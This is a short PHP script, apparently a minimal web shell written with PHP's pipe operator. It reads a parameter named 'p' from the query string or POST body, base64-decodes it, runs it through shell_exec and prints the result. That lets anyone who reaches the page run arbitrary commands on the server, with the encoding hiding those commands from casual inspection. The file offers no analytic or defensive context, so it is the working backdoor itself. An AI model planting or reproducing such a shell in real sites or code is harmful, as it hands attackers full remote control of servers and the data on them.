<?php
$_GET['p'] ?? '' |> base64_decode(...) |> shell_exec(...) |> print(...);
$out = ($_POST['p'] ?? '') |> base64_decode(...) |> shell_exec(...);
echo $out;
